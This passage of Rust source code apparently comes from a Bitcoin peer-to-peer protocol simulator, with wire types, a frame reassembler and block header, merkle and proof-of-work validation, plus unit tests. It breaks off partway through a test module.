#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Default)]
pub struct Hash256(pub [u8; 32]);

impl Hash256 {
    /// The all-zero hash (genesis `prev_block`, null pointers).
    pub const ZERO: Hash256 = Hash256([0u8; 32]);

    /// Computes the double-SHA256 of `data`.
    pub fn hash(data: &[u8]) -> Self {
        Hash256(crate::crypto::sha256d(data))
    }

    /// Builds a hash from reversed (display-order) hex.
    ///
    /// # Errors
    ///
    /// Returns `None` for non-hex input or wrong length.
    pub fn from_hex(s: &str) -> Option<Self> {
        if s.len() != 64 {
            return None;
        }
        let mut out = [0u8; 32];
        for (slot, chunk) in out.iter_mut().rev().zip(s.as_bytes().chunks_exact(2)) {
            let hex = std::str::from_utf8(chunk).ok()?;
            *slot = u8::from_str_radix(hex, 16).ok()?;
        }
        Some(Hash256(out))
    }

    /// Interprets the hash as a little-endian 256-bit integer and compares it
    /// against a compact-encoded difficulty target.
    ///
    /// Returns `true` when `self <= target(bits)` — i.e. valid proof of work.
    pub fn meets_target(&self, bits: u32) -> bool {
        let target = compact_to_target(bits);
        // Compare as 256-bit big-endian integers; self.0 is little-endian.
        let mut be = self.0;
        be.reverse();
        be <= target
    }

    /// Raw bytes in internal (little-endian) order.
    pub fn as_bytes(&self) -> &[u8; 32] {
        &self.0
    }
}

impl fmt::Debug for Hash256 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Hash256({self})")
    }
}

impl fmt::Display for Hash256 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for b in self.0.iter().rev() {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

impl From<[u8; 32]> for Hash256 {
    fn from(b: [u8; 32]) -> Self {
        Hash256(b)
    }
}

impl Encodable for Hash256 {
    fn encode(&self, w: &mut Writer) {
        w.bytes(&self.0);
    }
}

impl Decodable for Hash256 {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(Hash256(r.array()?))
    }
}

/// Expands a compact-encoded ("nBits") target into a 256-bit big-endian
/// integer.
pub fn compact_to_target(bits: u32) -> [u8; 32] {
    let exponent = (bits >> 24) as usize;
    let mantissa = bits & 0x007f_ffff;
    let mut target = [0u8; 32];
    if exponent <= 3 {
        let m = mantissa >> (8 * (3 - exponent));
        // lint:allow(narrowing-cast): intentional byte extraction from the 24-bit mantissa
        let bytes = [(m >> 16) as u8, (m >> 8) as u8, m as u8];
        if let Some(tail) = target.get_mut(29..32) {
            tail.copy_from_slice(&bytes);
        }
    } else if exponent <= 32 {
        let shift = exponent - 3;
        // lint:allow(narrowing-cast): intentional byte extraction from the 24-bit mantissa
        let bytes = [(mantissa >> 16) as u8, (mantissa >> 8) as u8, mantissa as u8];
        for (i, b) in bytes.iter().enumerate() {
            if let Some(t) = target.get_mut(32 - shift - 3 + i) {
                *t = *b;
            }
        }
    } else {
        // Exponent too large: saturate to the maximum target.
        target = [0xff; 32];
    }
    target
}

/// Service bits advertised in `VERSION`/`ADDR`.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, Default)]
pub struct ServiceFlags(pub u64);

impl ServiceFlags {
    /// No services.
    pub const NONE: ServiceFlags = ServiceFlags(0);
    /// `NODE_NETWORK`: can serve the full block chain.
    pub const NETWORK: ServiceFlags = ServiceFlags(1);
    /// `NODE_BLOOM`: supports BIP37 bloom filtering.
    pub const BLOOM: ServiceFlags = ServiceFlags(1 << 2);
    /// `NODE_WITNESS`: supports SegWit.
    pub const WITNESS: ServiceFlags = ServiceFlags(1 << 3);

    /// Whether every bit in `other` is set in `self`.
    pub fn has(&self, other: ServiceFlags) -> bool {
        self.0 & other.0 == other.0
    }
}

impl std::ops::BitOr for ServiceFlags {
    type Output = ServiceFlags;
    fn bitor(self, rhs: ServiceFlags) -> ServiceFlags {
        ServiceFlags(self.0 | rhs.0)
    }
}

/// The network a message belongs to, identified by its 4-byte magic.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum Network {
    /// Bitcoin mainnet (magic `0xD9B4BEF9`).
    #[default]
    Mainnet,
    /// A private regression-test network (magic `0xDAB5BFFA`).
    Regtest,
}

impl Network {
    /// The 4-byte message-start magic.
    pub fn magic(&self) -> u32 {
        match self {
            Network::Mainnet => 0xD9B4_BEF9,
            Network::Regtest => 0xDAB5_BFFA,
        }
    }

    /// Looks a network up by magic.
    pub fn from_magic(magic: u32) -> Option<Network> {
        match magic {
            0xD9B4_BEF9 => Some(Network::Mainnet),
            0xDAB5_BFFA => Some(Network::Regtest),
            _ => None,
        }
    }
}

/// A peer address as carried in `ADDR` payloads and `VERSION` messages
/// (IPv4-mapped-IPv6 + big-endian port, preceded by services).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct NetAddr {
    /// Services the peer claims to provide.
    pub services: ServiceFlags,
    /// IPv4 address (the simulator is v4-only; encoded as mapped IPv6).
    pub ip: [u8; 4],
    /// TCP port.
    pub port: u16,
}

impl NetAddr {
    /// Creates an address from octets and port.
    pub fn new(ip: [u8; 4], port: u16) -> Self {
        NetAddr {
            services: ServiceFlags::NETWORK,
            ip,
            port,
        }
    }
}

impl Default for NetAddr {
    fn default() -> Self {
        NetAddr::new([0, 0, 0, 0], DEFAULT_PORT)
    }
}

impl fmt::Display for NetAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}.{}.{}.{}:{}",
            // lint:allow(panic-path): fixed indices into the [u8; 4] octets
            self.ip[0], self.ip[1], self.ip[2], self.ip[3], self.port
        )
    }
}

impl Encodable for NetAddr {
    fn encode(&self, w: &mut Writer) {
        w.u64_le(self.services.0);
        // IPv4-mapped IPv6: 10 zero bytes, 0xffff, then the 4 octets.
        w.bytes(&[0u8; 10]);
        w.bytes(&[0xff, 0xff]);
        w.bytes(&self.ip);
        w.u16_be(self.port);
    }
}

impl Decodable for NetAddr {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let services = ServiceFlags(r.u64_le()?);
        let pad: [u8; 12] = r.array()?;
        let (zeros, mapped) = pad.split_at(10);
        if zeros.iter().any(|b| *b != 0) || mapped != [0xff, 0xff] {
            return Err(DecodeError::InvalidValue("not an IPv4-mapped address"));
        }
        let ip: [u8; 4] = r.array()?;
        let port = r.u16_be()?;
        Ok(NetAddr { services, ip, port })
    }
}

/// An `ADDR` entry: a [`NetAddr`] with a last-seen timestamp.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct TimestampedAddr {
    /// Unix time the address was last seen.
    pub time: u32,
    /// The address itself.
    pub addr: NetAddr,
}

impl Encodable for TimestampedAddr {
    fn encode(&self, w: &mut Writer) {
        w.u32_le(self.time);
        self.addr.encode(w);
    }
}

impl Decodable for TimestampedAddr {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(TimestampedAddr {
            time: r.u32_le()?,
            addr: NetAddr::decode(r)?,
        })
    }
}

/// The object class an inventory vector refers to.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum InvType {
    /// An unknown/reserved type carrying its raw discriminant.
    Error(u32),
    /// A transaction.
    Tx,
    /// A block.
    Block,
    /// A filtered (merkle) block.
    FilteredBlock,
    /// A compact block (BIP152).
    CmpctBlock,
    /// A SegWit transaction.
    WitnessTx,
    /// A SegWit block.
    WitnessBlock,
}

impl InvType {
    /// Wire discriminant.
    pub fn to_u32(self) -> u32 {
        match self {
            InvType::Error(v) => v,
            InvType::Tx => 1,
            InvType::Block => 2,
            InvType::FilteredBlock => 3,
            InvType::CmpctBlock => 4,
            InvType::WitnessTx => 0x4000_0001,
            InvType::WitnessBlock => 0x4000_0002,
        }
    }

    /// Parses a wire discriminant (unknown values map to [`InvType::Error`]).
    pub fn from_u32(v: u32) -> Self {
        match v {
            1 => InvType::Tx,
            2 => InvType::Block,
            3 => InvType::FilteredBlock,
            4 => InvType::CmpctBlock,
            0x4000_0001 => InvType::WitnessTx,
            0x4000_0002 => InvType::WitnessBlock,
            other => InvType::Error(other),
        }
    }
}

/// An inventory vector: `(type, hash)` as used by `INV`/`GETDATA`/`NOTFOUND`.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct Inventory {
    /// Object class.
    pub kind: InvType,
    /// Object hash.
    pub hash: Hash256,
}

impl Inventory {
    /// Convenience constructor.
    pub fn new(kind: InvType, hash: Hash256) -> Self {
        Inventory { kind, hash }
    }
}

impl Encodable for Inventory {
    fn encode(&self, w: &mut Writer) {
        w.u32_le(self.kind.to_u32());
        self.hash.encode(w);
    }
}

impl Decodable for Inventory {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(Inventory {
            kind: InvType::from_u32(r.u32_le()?),
            hash: Hash256::decode(r)?,
        })
    }
}

/// A `GETBLOCKS`/`GETHEADERS` block locator.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct BlockLocator {
    /// Protocol version of the sender.
    pub version: u32,
    /// Hashes from tip backwards (exponentially thinning).
    pub hashes: Vec<Hash256>,
    /// Stop hash, or zero for "as many as possible".
    pub stop: Hash256,
}

/// Maximum locator entries accepted (Bitcoin Core's `MAX_LOCATOR_SZ`).
pub const MAX_LOCATOR_SZ: u64 = 101;

impl Encodable for BlockLocator {
    fn encode(&self, w: &mut Writer) {
        w.u32_le(self.version);
        crate::encode::encode_vec(w, &self.hashes);
        self.stop.encode(w);
    }
}

impl Decodable for BlockLocator {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(BlockLocator {
            version: r.u32_le()?,
            hashes: crate::encode::decode_vec(r, "locator", MAX_LOCATOR_SZ)?,
            stop: Hash256::decode(r)?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hash_display_is_reversed_hex() {
        let mut b = [0u8; 32];
        b[0] = 0xab;
        b[31] = 0x01;
        let h = Hash256(b);
        let s = h.to_string();
        assert!(s.starts_with("01"));
        assert!(s.ends_with("ab"));
        assert_eq!(Hash256::from_hex(&s), Some(h));
    }

    #[test]
    fn from_hex_rejects_bad_input() {
        assert_eq!(Hash256::from_hex("zz"), None);
        assert_eq!(Hash256::from_hex(&"g".repeat(64)), None);
    }

    #[test]
    fn compact_target_genesis_bits() {
        // 0x1d00ffff => target 0x00000000ffff0000...0000
        let t = compact_to_target(0x1d00ffff);
        assert_eq!(&t[..4], &[0, 0, 0, 0]);
        assert_eq!(&t[4..6], &[0xff, 0xff]);
        assert!(t[6..].iter().all(|b| *b == 0));
    }

    #[test]
    fn meets_target_boundary() {
        // An easy target: exponent 0x20 -> mantissa in the top bytes.
        let easy = 0x207fffff;
        let mut low = [0u8; 32];
        low[31] = 1; // tiny LE value
        assert!(Hash256(low).meets_target(easy));
        let high = [0xff; 32];
        assert!(!Hash256(high).meets_target(0x1d00ffff));
    }

    #[test]
    fn netaddr_roundtrip() {
        let a = NetAddr::new([10, 0, 0, 7], 8333);
        let enc = a.encode_to_vec();
        assert_eq!(enc.len(), 26);
        assert_eq!(NetAddr::decode_all(&enc).unwrap(), a);
    }

    #[test]
    fn netaddr_rejects_non_mapped() {
        let a = NetAddr::new([1, 2, 3, 4], 1);
        let mut enc = a.encode_to_vec();
        enc[8] = 1; // corrupt the zero padding
        assert!(matches!(
            NetAddr::decode_all(&enc),
            Err(DecodeError::InvalidValue(_))
        ));
    }

    #[test]
    fn inventory_roundtrip_all_kinds() {
        for kind in [
            InvType::Tx,
            InvType::Block,
            InvType::FilteredBlock,
            InvType::CmpctBlock,
            InvType::WitnessTx,
            InvType::WitnessBlock,
            InvType::Error(99),
        ] {
            let inv = Inventory::new(kind, Hash256::hash(b"x"));
            let enc = inv.encode_to_vec();
            assert_eq!(enc.len(), 36);
            assert_eq!(Inventory::decode_all(&enc).unwrap(), inv);
        }
    }

    #[test]
    fn network_magic_roundtrip() {
        for n in [Network::Mainnet, Network::Regtest] {
            assert_eq!(Network::from_magic(n.magic()), Some(n));
        }
        assert_eq!(Network::from_magic(0), None);
    }

    #[test]
    fn service_flags_ops() {
        let f = ServiceFlags::NETWORK | ServiceFlags::WITNESS;
        assert!(f.has(ServiceFlags::NETWORK));
        assert!(f.has(ServiceFlags::WITNESS));
        assert!(!f.has(ServiceFlags::BLOOM));
        assert!(f.has(ServiceFlags::NONE));
    }

    #[test]
    fn locator_roundtrip() {
        let loc = BlockLocator {
            version: PROTOCOL_VERSION,
            hashes: vec![Hash256::hash(b"a"), Hash256::hash(b"b")],
            stop: Hash256::ZERO,
        };
        let enc = loc.encode_to_vec();
        assert_eq!(BlockLocator::decode_all(&enc).unwrap(), loc);
    }

    #[test]
    fn locator_size_bound() {
        let loc = BlockLocator {
            version: 1,
            hashes: vec![Hash256::ZERO; 102],
            stop: Hash256::ZERO,
        };
        let enc = loc.encode_to_vec();
        assert!(matches!(
            BlockLocator::decode_all(&enc),
            Err(DecodeError::OversizedLength { .. })
        ));
    }
}
