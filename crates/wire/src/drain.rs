//! Shared frame-reassembly drain.
//!
//! Every peer-side harness that speaks the wire protocol — test probes,
//! attack tooling, background traffic feeders — used to carry its own copy
//! of the reassembly loop, each with the same per-frame tail copy
//! (`buf[consumed..].to_vec()`, O(k²) memmove over a k-frame burst).
//! [`FrameAssembler`] replaces those copies with one cursor-buffer drain on
//! the zero-copy [`read_frame_at`] path.
//!
//! ```
//! use btc_wire::drain::FrameAssembler;
//! use btc_wire::message::{Message, RawMessage};
//! use btc_wire::types::Network;
//!
//! let mut asm = FrameAssembler::new(Network::Regtest);
//! let bytes = RawMessage::frame(Network::Regtest, &Message::Ping(7)).to_bytes();
//! asm.push(&bytes[..10]); // partial delivery
//! assert!(asm.next_frame().is_none());
//! asm.push(&bytes[10..]);
//! let raw = asm.next_frame().expect("complete frame");
//! assert_eq!(raw.header.command_str(), Ok("ping"));
//! ```

use crate::bytes::RecvBuffer;
use crate::encode::DecodeError;
use crate::message::{read_frame_at, FrameResult, RawMessage};
use crate::types::Network;

/// Reassembles wire frames out of arbitrarily chunked deliveries.
///
/// Mirrors the error handling of the drain loops it replaces: a framing
/// error (wrong magic / oversized length) drops the buffered bytes — the
/// stream is desynced and unrecoverable — records the error, and resumes
/// with an empty buffer on the next [`FrameAssembler::push`].
#[derive(Clone, Debug, Default)]
pub struct FrameAssembler {
    network: Network,
    buf: RecvBuffer,
    last_error: Option<DecodeError>,
}

impl FrameAssembler {
    /// Creates an assembler for `network`.
    pub fn new(network: Network) -> Self {
        FrameAssembler {
            network,
            buf: RecvBuffer::new(),
            last_error: None,
        }
    }

    /// Appends delivered bytes.
    pub fn push(&mut self, data: &[u8]) {
        self.buf.push(data);
    }

    /// Pulls the next complete frame, or `None` when more bytes are needed
    /// (or the stream just desynced — see [`FrameAssembler::last_error`]).
    /// The payload is a refcounted slice of the reassembly buffer.
    pub fn next_frame(&mut self) -> Option<RawMessage> {
        let window = self.buf.window();
        match read_frame_at(self.network, &window, 0) {
            Ok(FrameResult::Frame { raw, consumed }) => {
                self.buf.advance(consumed);
                Some(raw)
            }
            Ok(FrameResult::Incomplete) => None,
            Err(e) => {
                self.buf.clear();
                self.last_error = Some(e);
                None
            }
        }
    }

    /// Bytes buffered but not yet framed.
    pub fn buffered(&self) -> usize {
        self.buf.unconsumed()
    }

    /// The most recent framing error, if any.
    pub fn last_error(&self) -> Option<&DecodeError> {
        self.last_error.as_ref()
    }

    /// Buffer-management bytes moved so far (compaction/rebuild; the
    /// steady-state drain moves none).
    pub fn bytes_memmoved(&self) -> u64 {
        self.buf.bytes_memmoved()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::{decode_frame, Message, RawMessage};

    fn stream(msgs: &[Message]) -> Vec<u8> {
        let mut out = Vec::new();
        for m in msgs {
            out.extend_from_slice(&RawMessage::frame(Network::Regtest, m).to_bytes());
        }
        out
    }

    #[test]
    fn one_byte_drip_reassembles_every_frame() {
        let msgs = vec![Message::Ping(1), Message::GetAddr, Message::Pong(2)];
        let bytes = stream(&msgs);
        let mut asm = FrameAssembler::new(Network::Regtest);
        let mut got = Vec::new();
        for b in &bytes {
            asm.push(std::slice::from_ref(b));
            while let Some(raw) = asm.next_frame() {
                got.push(decode_frame(&raw).unwrap());
            }
        }
        assert_eq!(got, msgs);
        assert_eq!(asm.buffered(), 0);
    }

    #[test]
    fn burst_drains_in_one_pass_without_moves() {
        let msgs: Vec<Message> = (0..32).map(Message::Ping).collect();
        let mut asm = FrameAssembler::new(Network::Regtest);
        asm.push(&stream(&msgs));
        let mut n = 0;
        while let Some(raw) = asm.next_frame() {
            assert_eq!(raw.header.command_str(), Ok("ping"));
            n += 1;
        }
        assert_eq!(n, 32);
        assert_eq!(asm.bytes_memmoved(), 0, "burst drain must not memmove");
    }

    #[test]
    fn desync_clears_buffer_records_error_then_recovers() {
        let mut asm = FrameAssembler::new(Network::Regtest);
        asm.push(&[0xFFu8; 64]); // garbage: wrong magic
        assert!(asm.next_frame().is_none());
        assert!(asm.last_error().is_some());
        assert_eq!(asm.buffered(), 0);
        // A clean stream after the desync still parses.
        asm.push(&stream(&[Message::Verack]));
        let raw = asm.next_frame().expect("recovered");
        assert_eq!(raw.header.command_str(), Ok("verack"));
    }
}
