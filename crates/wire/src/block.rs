//! Block headers, full blocks, merkle trees and proof-of-work validation.
//!
//! The `BLOCK` ban-score rules ("block data was mutated", "previous block is
//! invalid/missing") hang off exactly the checks implemented here.

use crate::crypto::sha256::{sha256d_pair, Midstate};
use crate::encode::{
    decode_vec, encode_vec, Decodable, DecodeResult, Encodable, Reader, Writer,
};
use crate::tx::Transaction;
use crate::types::Hash256;

/// Maximum transactions we will decode in a block (sanity bound).
const MAX_BLOCK_TXS: u64 = 1_000_000;

/// An 80-byte block header.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct BlockHeader {
    /// Version / BIP9 signal bits.
    pub version: i32,
    /// Hash of the previous block header.
    pub prev_block: Hash256,
    /// Merkle root over the block's txids.
    pub merkle_root: Hash256,
    /// Unix timestamp.
    pub time: u32,
    /// Compact difficulty target.
    pub bits: u32,
    /// PoW nonce.
    pub nonce: u32,
}

impl BlockHeader {
    /// The header's consensus serialization, on the stack. Must stay
    /// byte-identical to [`Encodable::encode`].
    pub fn to_bytes(&self) -> [u8; 80] {
        let mut b = [0u8; 80];
        let (ver, rest) = b.split_at_mut(4);
        let (prev, rest) = rest.split_at_mut(32);
        let (root, rest) = rest.split_at_mut(32);
        let (time, rest) = rest.split_at_mut(4);
        let (bits, nonce) = rest.split_at_mut(4);
        ver.copy_from_slice(&self.version.to_le_bytes());
        prev.copy_from_slice(self.prev_block.as_bytes());
        root.copy_from_slice(self.merkle_root.as_bytes());
        time.copy_from_slice(&self.time.to_le_bytes());
        bits.copy_from_slice(&self.bits.to_le_bytes());
        nonce.copy_from_slice(&self.nonce.to_le_bytes());
        b
    }

    /// The header's hash (double-SHA256 of its 80-byte serialization).
    pub fn hash(&self) -> Hash256 {
        Hash256::hash(&self.to_bytes())
    }

    /// Whether the header hash satisfies its own difficulty target.
    pub fn check_pow(&self) -> bool {
        self.hash().meets_target(self.bits)
    }

    /// Grinds `nonce` until the PoW check passes. Only usable with easy
    /// (regtest-style) targets.
    ///
    /// The nonce occupies the last 4 of the header's 80 bytes, so the first
    /// 64-byte block is nonce-independent: its [`Midstate`] is captured once
    /// and each attempt costs one tail compression plus the second-pass
    /// compression, instead of re-hashing the whole header.
    ///
    /// # Panics
    ///
    /// Panics if no nonce in `u32` satisfies the target.
    pub fn mine(&mut self) {
        let bytes = self.to_bytes();
        let (head, tail_src) = bytes.split_at(64);
        let mid = Midstate::of(head);
        let mut tail: [u8; 16] = tail_src.first_chunk().copied().unwrap_or_default();
        for nonce in 0..=u32::MAX {
            if let Some(t) = tail.get_mut(12..16) {
                t.copy_from_slice(&nonce.to_le_bytes());
            }
            if Hash256(mid.sha256d_tail(&tail)).meets_target(self.bits) {
                self.nonce = nonce;
                return;
            }
        }
        // lint:allow(panic-path): miner-side tool; unreachable for the regtest targets we mine
        panic!("exhausted nonce space for target {:#x}", self.bits);
    }
}

impl Default for BlockHeader {
    fn default() -> Self {
        BlockHeader {
            version: 1,
            prev_block: Hash256::ZERO,
            merkle_root: Hash256::ZERO,
            time: 0,
            bits: crate::constants::REGTEST_BITS,
            nonce: 0,
        }
    }
}

impl Encodable for BlockHeader {
    fn encode(&self, w: &mut Writer) {
        w.i32_le(self.version);
        self.prev_block.encode(w);
        self.merkle_root.encode(w);
        w.u32_le(self.time);
        w.u32_le(self.bits);
        w.u32_le(self.nonce);
    }
}

impl Decodable for BlockHeader {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(BlockHeader {
            version: r.i32_le()?,
            prev_block: Hash256::decode(r)?,
            merkle_root: Hash256::decode(r)?,
            time: r.u32_le()?,
            bits: r.u32_le()?,
            nonce: r.u32_le()?,
        })
    }
}

/// A header as carried inside a `HEADERS` payload: header + a (always zero)
/// transaction count varint.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct HeadersEntry(pub BlockHeader);

impl Encodable for HeadersEntry {
    fn encode(&self, w: &mut Writer) {
        self.0.encode(w);
        w.compact_size(0);
    }
}

impl Decodable for HeadersEntry {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let h = BlockHeader::decode(r)?;
        let _txn_count = r.compact_size()?;
        Ok(HeadersEntry(h))
    }
}

/// A full block.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Block {
    /// The header.
    pub header: BlockHeader,
    /// Transactions, coinbase first.
    pub txs: Vec<Transaction>,
}

impl Block {
    /// Computes the merkle root over this block's txids.
    pub fn merkle_root(&self) -> Hash256 {
        merkle_root(&self.txs.iter().map(|t| t.txid()).collect::<Vec<_>>())
    }

    /// Block hash (the header hash).
    pub fn hash(&self) -> Hash256 {
        self.header.hash()
    }

    /// Full validation as run on a received `BLOCK` message: PoW, merkle
    /// commitment, and per-transaction structural checks.
    ///
    /// # Errors
    ///
    /// The first violated rule, using Bitcoin Core's reject-reason strings.
    /// `"bad-txnmrklroot"` is the "block data was mutated" condition of
    /// Table I.
    pub fn check(&self) -> Result<(), &'static str> {
        if !self.header.check_pow() {
            return Err("high-hash");
        }
        if self.txs.is_empty() {
            return Err("bad-blk-length");
        }
        if self.merkle_root() != self.header.merkle_root {
            return Err("bad-txnmrklroot");
        }
        if !self.txs.first().is_some_and(Transaction::is_coinbase) {
            return Err("bad-cb-missing");
        }
        if self.txs.iter().skip(1).any(Transaction::is_coinbase) {
            return Err("bad-cb-multiple");
        }
        // Duplicate txids would produce a malleated merkle tree (CVE-2012-2459).
        let mut seen = std::collections::BTreeSet::new();
        for tx in &self.txs {
            if !seen.insert(tx.txid()) {
                return Err("bad-txns-duplicate");
            }
            tx.check()?;
            tx.check_witness()?;
        }
        Ok(())
    }
}

impl Encodable for Block {
    fn encode(&self, w: &mut Writer) {
        self.header.encode(w);
        encode_vec(w, &self.txs);
    }
}

impl Decodable for Block {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        Ok(Block {
            header: BlockHeader::decode(r)?,
            txs: decode_vec(r, "block txs", MAX_BLOCK_TXS)?,
        })
    }
}

/// Folds `level[..n]` down to its parent level in place and returns the
/// parent's length. Odd levels pair the last node with itself (consensus
/// duplication) via an index clamp — no copy is pushed.
fn fold_level(level: &mut [Hash256], n: usize) -> usize {
    debug_assert!(n > 1);
    let parents = n.div_ceil(2);
    for p in 0..parents {
        let left = 2 * p;
        let right = (left + 1).min(n - 1);
        // lint:allow(panic-path): p < parents <= n <= level.len(); left/right clamped below n
        level[p] = Hash256(sha256d_pair(&level[left].0, &level[right].0));
    }
    parents
}

/// Computes a Bitcoin merkle root over `leaves` (txids, internal byte order).
///
/// Returns [`Hash256::ZERO`] for an empty leaf set. Odd levels duplicate the
/// last node, as consensus does. One scratch buffer is allocated up front
/// and every level is folded into it in place; each pairing step is the
/// three-compression [`sha256d_pair`] fast path.
pub fn merkle_root(leaves: &[Hash256]) -> Hash256 {
    if leaves.is_empty() {
        return Hash256::ZERO;
    }
    let mut scratch: Vec<Hash256> = leaves.to_vec();
    let mut n = scratch.len();
    while n > 1 {
        n = fold_level(&mut scratch, n);
    }
    scratch.first().copied().unwrap_or(Hash256::ZERO)
}

/// A merkle inclusion branch for one leaf, as served in `MERKLEBLOCK`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct MerkleBranch {
    /// Sibling hashes from leaf to root.
    pub siblings: Vec<Hash256>,
    /// Leaf index (determines left/right at each level).
    pub index: u32,
}

impl MerkleBranch {
    /// Builds the branch proving `index` within `leaves`. An out-of-range
    /// `index` is clamped to the last leaf — the proof then simply fails to
    /// verify against the requested leaf, instead of aborting the server.
    pub fn build(leaves: &[Hash256], index: usize) -> Self {
        let mut siblings = Vec::new();
        let mut scratch: Vec<Hash256> = leaves.to_vec();
        let mut n = scratch.len();
        let mut idx = index.min(n.saturating_sub(1));
        while n > 1 {
            // The sibling of an unpaired last node is the node itself.
            let sib_idx = if idx % 2 == 0 { (idx + 1).min(n - 1) } else { idx - 1 };
            // lint:allow(panic-path): idx < n is a loop invariant; sib_idx clamped below n
            siblings.push(scratch[sib_idx]);
            n = fold_level(&mut scratch, n);
            idx /= 2;
        }
        MerkleBranch {
            siblings,
            index: u32::try_from(index).unwrap_or(u32::MAX),
        }
    }

    /// Recomputes the root implied by `leaf` and this branch.
    pub fn compute_root(&self, leaf: Hash256) -> Hash256 {
        let mut acc = leaf;
        let mut idx = self.index;
        for sib in &self.siblings {
            acc = if idx % 2 == 0 {
                Hash256(sha256d_pair(&acc.0, &sib.0))
            } else {
                Hash256(sha256d_pair(&sib.0, &acc.0))
            };
            idx /= 2;
        }
        acc
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::constants::REGTEST_BITS;

    fn mined_block(tag: &[u8], ntx: usize) -> Block {
        let mut txs = vec![Transaction::coinbase(50_0000_0000, tag)];
        for i in 0..ntx {
            let mut t = Transaction::coinbase(1, &[i as u8, 1, 2, 3]);
            t.inputs_mut()[0].prevout = crate::tx::OutPoint::new(Hash256::hash(&[i as u8]), 0);
            txs.push(t);
        }
        let mut block = Block {
            header: BlockHeader {
                bits: REGTEST_BITS,
                ..BlockHeader::default()
            },
            txs,
        };
        block.header.merkle_root = block.merkle_root();
        block.header.mine();
        block
    }

    #[test]
    fn header_is_80_bytes() {
        assert_eq!(BlockHeader::default().encode_to_vec().len(), 80);
    }

    #[test]
    fn to_bytes_matches_encoder() {
        let h = BlockHeader {
            version: 0x2000_0000,
            prev_block: Hash256::hash(b"prev"),
            merkle_root: Hash256::hash(b"root"),
            time: 1_600_000_000,
            bits: 0x1d00_ffff,
            nonce: 0xdead_beef,
        };
        assert_eq!(h.to_bytes().as_slice(), h.encode_to_vec().as_slice());
    }

    #[test]
    fn header_roundtrip() {
        let h = BlockHeader {
            version: 0x2000_0000,
            prev_block: Hash256::hash(b"prev"),
            merkle_root: Hash256::hash(b"root"),
            time: 1_600_000_000,
            bits: 0x1d00_ffff,
            nonce: 42,
        };
        assert_eq!(BlockHeader::decode_all(&h.encode_to_vec()).unwrap(), h);
    }

    #[test]
    fn mine_finds_lowest_satisfying_nonce() {
        // The midstate loop must preserve the original semantics: scan from
        // zero, stop at the first nonce whose hash meets the target.
        let mut h = BlockHeader {
            bits: REGTEST_BITS,
            ..BlockHeader::default()
        };
        h.mine();
        let mined = h.nonce;
        for nonce in 0..mined {
            h.nonce = nonce;
            assert!(!h.check_pow(), "nonce {nonce} below {mined} satisfies target");
        }
        h.nonce = mined;
        assert!(h.check_pow());
    }

    #[test]
    fn mined_block_validates() {
        let b = mined_block(b"ok", 3);
        assert_eq!(b.check(), Ok(()));
    }

    #[test]
    fn mutated_block_fails_merkle() {
        let mut b = mined_block(b"mut", 3);
        // Swap two non-coinbase transactions: PoW still valid, merkle not.
        b.txs.swap(1, 2);
        assert_eq!(b.check(), Err("bad-txnmrklroot"));
    }

    #[test]
    fn bogus_pow_fails_high_hash() {
        let mut b = mined_block(b"pow", 1);
        b.header.bits = 0x1d00_ffff; // mainnet-hard target the nonce can't meet
        assert_eq!(b.check(), Err("high-hash"));
    }

    #[test]
    fn missing_coinbase_rejected() {
        let mut b = mined_block(b"cb", 2);
        b.txs.remove(0);
        b.header.merkle_root = b.merkle_root();
        b.header.mine();
        assert_eq!(b.check(), Err("bad-cb-missing"));
    }

    #[test]
    fn duplicate_tx_rejected() {
        let mut b = mined_block(b"dup", 1);
        b.txs.push(b.txs[1].clone());
        b.header.merkle_root = b.merkle_root();
        b.header.mine();
        assert_eq!(b.check(), Err("bad-txns-duplicate"));
    }

    #[test]
    fn merkle_single_leaf_is_identity() {
        let h = Hash256::hash(b"only");
        assert_eq!(merkle_root(&[h]), h);
    }

    #[test]
    fn merkle_empty_is_zero() {
        assert_eq!(merkle_root(&[]), Hash256::ZERO);
    }

    #[test]
    fn merkle_odd_level_duplicates_last() {
        let a = Hash256::hash(b"a");
        let b = Hash256::hash(b"b");
        let c = Hash256::hash(b"c");
        // Three leaves: level 2 = [H(a|b), H(c|c)].
        let mut ab = [0u8; 64];
        ab[..32].copy_from_slice(a.as_bytes());
        ab[32..].copy_from_slice(b.as_bytes());
        let mut cc = [0u8; 64];
        cc[..32].copy_from_slice(c.as_bytes());
        cc[32..].copy_from_slice(c.as_bytes());
        let l = Hash256::hash(&ab);
        let r = Hash256::hash(&cc);
        let mut lr = [0u8; 64];
        lr[..32].copy_from_slice(l.as_bytes());
        lr[32..].copy_from_slice(r.as_bytes());
        assert_eq!(merkle_root(&[a, b, c]), Hash256::hash(&lr));
    }

    #[test]
